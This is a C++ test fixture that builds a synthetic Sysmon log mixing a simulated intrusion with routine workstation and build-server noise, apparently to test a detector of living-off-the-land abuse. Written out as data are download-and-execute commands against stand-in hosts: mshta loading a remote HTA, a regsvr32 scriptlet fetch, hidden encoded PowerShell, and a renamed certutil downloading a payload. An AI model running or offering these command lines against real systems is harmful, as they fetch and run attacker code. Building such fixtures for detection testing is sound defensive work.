#include "tests/support/scenario.h"

#include "tests/support/sysmon.h"

#include <array>
#include <chrono>

namespace lolscope::test {
namespace {

using std::chrono::milliseconds;
using std::chrono::minutes;
using std::chrono::seconds;

/// `hh:mm:ss.mmm` on the day of the scenario.
Timestamp at(std::string_view time)
{
    return parseTimestamp("2026-10-05T" + std::string(time)).value();
}

const Host kWorkstation{"WKS-042.corp.example", "10.1.7.42", 0x5D0A42C1, 2712, 41208};
const Host kBuildServer{"BUILD-01.corp.example", "10.1.9.10", 0x81B70133, 2488, 903301};

const Session kSystem{"NT AUTHORITY\\SYSTEM"};
const Session kNetworkService{"NT AUTHORITY\\NETWORK SERVICE", 0x3e4};
const Session kAnna{"CORP\\anna", 0x6a1f2, 1, "Medium", "C:\\Users\\anna\\"};
const Session kAnnaElevated{"CORP\\anna", 0x6a1c8, 1, "High", "C:\\Users\\anna\\Downloads\\"};
const Session kCi{"CORP\\svc_ci", 0x51e07, 0, "High", "C:\\ci\\work\\17\\"};

Program windowsProgram(const std::string &name, const std::string &original, const std::string &description)
{
    return {"C:\\Windows\\System32\\" + name, original, description};
}

const Program kServices = windowsProgram("services.exe", "services.exe", "Services and Controller app");
const Program kSvchost = windowsProgram("svchost.exe", "svchost.exe", "Host Process for Windows Services");
const Program kCmd = windowsProgram("cmd.exe", "Cmd.Exe", "Windows Command Processor");
const Program kMsiexec = windowsProgram("msiexec.exe", "msiexec.exe", "Windows® installer");
const Program kRegsvr32 = windowsProgram("regsvr32.exe", "REGSVR32.EXE", "Microsoft(C) Register Server");
const Program kExplorer{"C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer"};
const Program kMshta{"C:\\Windows\\System32\\mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host",
                     "11.00.19041.1 (WinBuild.160101.0800)", "Internet Explorer"};
const Program kPowerShell{"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE",
                          "Windows PowerShell"};
const Program kWord{"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe",
                    "Microsoft Word", "16.0.17928.20114", "Microsoft Office"};
const Program kRenamedCertutil{"C:\\Users\\Public\\svch0st.exe", "CertUtil.exe", "CertUtil.exe"};
const Program kInstallUtil{"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe",
                           "InstallUtil.exe", ".NET Framework installation utility",
                           "4.8.9037.0 built by: NET481REL1", "Microsoft® .NET Framework"};
const Program kUpdater{"C:\\Program Files\\Vendor\\Updater\\vendorupd.exe",
                       "vendorupd.exe",
                       "Vendor Update Service",
                       "7.2.0.118",
                       "Vendor Suite",
                       "Vendor Example Ltd."};
const Program kAgent{
    "C:\\ci\\agent\\ci-agent.exe", "ci-agent.exe", "Build agent", "3.4.1", "Build Agent", "Build Example"};
const Program kBrowser{"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                       "chrome.exe",
                       "Google Chrome",
                       "129.0.6668.71",
                       "Google Chrome",
                       "Google LLC"};
const Program kNotepad = windowsProgram("notepad.exe", "NOTEPAD.EXE", "Notepad");
const Program kTaskhost = windowsProgram("taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks");

/// A process from before the log begins: later records name it, none starts it.
Process earlier(const Host &host, std::uint32_t id, const Program &program, const std::string &commandLine,
                const std::string &user)
{
    SysmonLog unused;
    return unused.start(host, at("05:31:08.420"), id, program, commandLine, {}, {user});
}

/// Office macro to HTML application to PowerShell to a renamed certutil.
void officeChain(SysmonLog &log, const Process &explorer)
{
    const Process word = log.start(
        kWorkstation, at("10:11:58.020"), 7720, kWord,
        R"("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\anna\Downloads\Invoice 2026-10.docm" /o "")",
        explorer, kAnnaElevated);
    const std::array<std::pair<const char *, const char *>, 4> names = {
        {{"documents.office.example", "192.0.2.61"},
         {"fonts.office.example", "192.0.2.62"},
         {"templates.office.example", "192.0.2.63"},
         {"telemetry.office.example", "192.0.2.64"}}};
    Timestamp time = at("10:11:59.310");
    std::uint16_t port = 49790;
    for (const auto &[name, address] : names) {
        log.query(word, time, name, std::string("::ffff:") + address + ";");
        log.connect(word, time + milliseconds(210), port++, {address, 443, "-", "https"});
        time += milliseconds(2870);
    }
    log.connect(word, at("10:15:20.004"), port++, {"192.0.2.61", 443, "-", "https"});
    log.connect(word, at("10:18:20.117"), port++, {"192.0.2.64", 443, "-", "https"});

    const Process cmd = log.start(kWorkstation, at("10:12:30.871"), 6104, kCmd,
                                  "cmd /c start mshta http://cdn-sync.example/u.hta", word, kAnnaElevated);
    const Process mshta = log.start(kWorkstation, at("10:12:31.402"), 8440, kMshta,
                                    "mshta  http://cdn-sync.example/u.hta", cmd, kAnnaElevated);
    log.end(cmd, at("10:12:31.655"));
    log.query(mshta, at("10:12:32.955"), "cdn-sync.example", "::ffff:203.0.113.8;::ffff:203.0.113.9;");
    log.connect(mshta, at("10:12:33.340"), 49811, {"203.0.113.8", 443, "-", "https"});
    log.connect(mshta, at("10:16:41.029"), 49838, {"203.0.113.8", 443, "-", "https"});
    log.connect(mshta, at("10:21:30.774"), 49871, {"203.0.113.8", 443, "-", "https"});

    // Write-Output "sample": UTF-16, base64.
    const Process shell = log.start(
        kWorkstation, at("10:12:40.118"), 9012, kPowerShell,
        R"("C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAHMAYQBtAHAAbABlACIA)",
        mshta, kAnnaElevated);
    log.query(shell, at("10:12:42.300"), "api.cdn-sync.example",
              "type:  5 edge.cdn-sync.example;::ffff:203.0.113.9;");
    for (int i = 0; i < 4; ++i)
        log.connect(shell, at("10:12:42.561") + i * seconds(95), static_cast<std::uint16_t>(49815 + 9 * i),
                    {"203.0.113.9", 443, "-", "https"});
    log.query(shell, at("10:20:04.480"), "stage.cdn-sync.example", "::ffff:203.0.113.10;");
    log.connect(shell, at("10:20:04.733"), 49866, {"203.0.113.10", 443, "-", "https"});

    const Process renamed = log.start(
        kWorkstation, at("10:20:11.946"), 9544, kRenamedCertutil,
        R"("C:\Users\Public\svch0st.exe" -urlcache -split -f https://files.cdn-sync.example/p.dat C:\Users\Public\p.dat)",
        shell, kAnnaElevated);
    log.query(renamed, at("10:20:12.211"), "files.cdn-sync.example", "::ffff:203.0.113.40;");
    log.connect(renamed, at("10:20:12.390"), 49868, {"203.0.113.40", 443, "-", "https"});
    log.connect(renamed, at("10:20:13.082"), 49869, {"203.0.113.40", 443, "-", "https"});
    log.end(renamed, at("10:20:15.517"));
    log.end(shell, at("10:22:03.660"));
    log.end(mshta, at("10:23:12.041"));
    log.end(word, at("11:40:55.310"));
}

/// A scriptlet from a bare address that calls home once a minute, and an HTML application that listens.
void directAddress(SysmonLog &log, const Process &explorer)
{
    const Process cmd =
        log.start(kWorkstation, at("10:13:58.114"), 4980, kCmd,
                  R"("C:\Windows\System32\cmd.exe" /c C:\Users\anna\Downloads\setup.cmd)", explorer, kAnna);
    const Process regsvr32 =
        log.start(kWorkstation, at("10:14:01.730"), 5316, kRegsvr32,
                  "regsvr32  /s /n /u /i:http://198.51.100.23:8080/a.sct scrobj.dll", cmd, kAnna);
    log.end(cmd, at("10:14:01.902"));
    for (int i = 0; i < 11; ++i)
        log.connect(regsvr32, at("10:14:02.208") + i * minutes(1) + milliseconds(i * 7 % 5),
                    static_cast<std::uint16_t>(49821 + 3 * i), {"198.51.100.23", 8080});
    log.end(regsvr32, at("10:24:40.093"));

    const Process listener = log.start(
        kWorkstation, at("14:37:10.559"), 2268, kMshta,
        R"("C:\Windows\System32\mshta.exe" "C:\Users\anna\AppData\Local\Temp\panel.hta")", explorer, kAnna);
    log.connect(listener, at("14:39:44.815"), 49707, {"10.1.7.77", 50211, "WKS-077.corp.example"}, false);
    log.end(listener, at("14:52:18.004"));
}

/// What a build server does every day: an updater that installs by address, and a build step.
void buildServer(SysmonLog &log, const Process &services)
{
    const Process updater =
        log.start(kBuildServer, at("06:00:02.118"), 1904, kUpdater,
                  R"("C:\Program Files\Vendor\Updater\vendorupd.exe" --service)", services, kSystem);
    const std::array<std::pair<const char *, std::uint32_t>, 2> runs = {
        {{"06:15:00.250", 3724}, {"12:15:00.318", 7052}}};
    std::uint16_t port = 50120;
    for (const auto &[time, id] : runs) {
        const Timestamp begin = at(time);
        const Process installer =
            log.start(kBuildServer, begin, id, kMsiexec,
                      "msiexec.exe /i https://updates.vendor.example/agent/agent-7.2.msi /qn /norestart",
                      updater, kSystem);
        log.query(installer, begin + milliseconds(840), "updates.vendor.example",
                  "type:  5 cdn.vendor.example;::ffff:192.0.2.10;");
        for (int i = 0; i < 4; ++i)
            log.connect(installer, begin + milliseconds(1020 + 5210 * i), port++,
                        {"192.0.2.10", 443, "-", "https"});
        log.end(installer, begin + seconds(41));
    }

    const Process agent = log.start(kBuildServer, at("06:00:04.771"), 2236, kAgent,
                                    R"("C:\ci\agent\ci-agent.exe" run --pool windows)", services, kCi);
    for (int i = 0; i < 8; ++i)
        log.connect(agent, at("06:00:06.015") + i * minutes(75), static_cast<std::uint16_t>(50010 + i),
                    {"10.1.9.4", 8443, "ci.corp.example"});
    const Process cmd =
        log.start(kBuildServer, at("09:40:08.331"), 6520, kCmd,
                  R"(C:\Windows\system32\cmd.exe /d /s /c "C:\ci\work\17\deploy.cmd")", agent, kCi);
    const Process installUtil = log.start(
        kBuildServer, at("09:40:09.902"), 6688, kInstallUtil,
        R"(C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /LogToConsole=true C:\ci\work\17\out\BuildService.exe)",
        cmd, kCi);
    log.query(installUtil, at("09:40:10.870"), "api.build.example", "::ffff:192.0.2.77;");
    log.connect(installUtil, at("09:40:11.204"), 50077, {"192.0.2.77", 443, "-", "https"});
    log.connect(installUtil, at("09:40:14.640"), 50078, {"192.0.2.77", 443, "-", "https"});
    log.end(installUtil, at("09:40:19.018"));
    log.end(cmd, at("09:40:19.300"));
}

/// Programs that are always on the network, names that do not exist, processes that come and go.
void everydayNoise(SysmonLog &log, const Process &explorer, const Process &services)
{
    const Process dns = log.start(kWorkstation, at("08:54:31.870"), 1588, kSvchost,
                                  R"(C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache)",
                                  services, kNetworkService);
    const Process updates =
        log.start(kWorkstation, at("08:54:33.415"), 2060, kSvchost,
                  R"(C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv)", services, kSystem);
    const Process browser =
        log.start(kWorkstation, at("08:57:14.006"), 6332, kBrowser,
                  R"("C:\Program Files\Google\Chrome\Application\chrome.exe")", explorer, kAnna);
    log.query(explorer, at("08:55:20.330"), "files.corp.example", "10.1.2.20;");
    log.connect(explorer, at("08:55:20.512"), 49702,
                {"10.1.2.20", 445, "files.corp.example", "microsoft-ds"});
    log.connect(explorer, at("13:02:47.902"), 49930,
                {"10.1.2.20", 445, "files.corp.example", "microsoft-ds"});

    const std::array<const char *, 6> sites = {"www.example.com",  "news.example.net",   "mail.example.org",
                                               "maps.example.com", "static.example.net", "shop.example.org"};
    std::uint32_t random = 20261005;
    const auto below = [&random](std::uint32_t limit) {
        random = random * 1664525 + 1013904223;
        return (random >> 8) % limit;
    };
    Timestamp time = at("08:57:16.000");
    auto port = std::uint16_t{51000};
    for (int i = 0; i < 60; ++i) {
        time += milliseconds(45'000 + below(600'000));
        const std::uint32_t site = below(sites.size());
        const std::string last = std::to_string(20 + site);
        const bool v6 = below(5) == 0;
        log.query(browser, time, sites[site],
                  v6 ? "2001:db8::" + last + ";" : "::ffff:198.51.100." + last + ";");
        log.connect(browser, time + milliseconds(30 + below(200)), port++,
                    {v6 ? "2001:db8:0:0:0:0:0:" + last : "198.51.100." + last, 443, "-", "https"}, true,
                    below(4) == 0 ? "udp" : "tcp");
        if (i % 7 == 3)
            log.query(browser, time + seconds(2), "wpad.corp.example", "-", 9003);
    }

    time = at("08:56:00.000");
    std::uint32_t id = 10'000;
    for (int i = 0; i < 32; ++i) {
        time += milliseconds(240'000 + below(1'200'000));
        log.connect(dns, time, port++, {"10.1.0.53", 53, "dns.corp.example", "domain"}, true, "udp");
        if (i % 2 == 0) {
            log.query(updates, time + seconds(3), "updates.example.com", "::ffff:192.0.2.33;");
            log.connect(updates, time + seconds(4), port++, {"192.0.2.33", 443, "-", "https"});
        }
        if (i % 3 == 0) {
            const bool task = i % 2 == 0;
            const Process brief =
                log.start(kWorkstation, time + seconds(9), id, task ? kTaskhost : kNotepad,
                          task ? "taskhostw.exe KEYROAMING"
                               : R"("C:\Windows\system32\notepad.exe" C:\Users\anna\Notes.txt)",
                          task ? updates : explorer, task ? kSystem : kAnna);
            log.end(brief, time + seconds(20 + below(400)));
            id += 4 * (7 + below(90));
        }
    }
    log.end(browser, at("17:05:40.221"));
}

} // namespace

std::vector<RecordSpec> sampleScenario()
{
    SysmonLog log;
    const std::string system = "NT AUTHORITY\\SYSTEM";
    const Process services =
        earlier(kWorkstation, 884, kServices, R"(C:\Windows\system32\services.exe)", system);
    const Process buildServices =
        earlier(kBuildServer, 792, kServices, R"(C:\Windows\system32\services.exe)", system);
    const Process userinit = earlier(
        kWorkstation, 4236, windowsProgram("userinit.exe", "USERINIT.EXE", "Userinit Logon Application"),
        R"(C:\Windows\system32\userinit.exe)", kAnna.user);
    const Process explorer = log.start(kWorkstation, at("08:55:02.114"), 4312, kExplorer,
                                       R"(C:\Windows\Explorer.EXE)", userinit, kAnna);
    officeChain(log, explorer);
    directAddress(log, explorer);
    buildServer(log, buildServices);
    everydayNoise(log, explorer, services);
    return log.records();
}

Result<void> writeSample(const std::filesystem::path &path)
{
    EvtxWriter writer(path);
    for (const RecordSpec &record : sampleScenario())
        writer.add(record);
    return writer.finish();
}

} // namespace lolscope::test
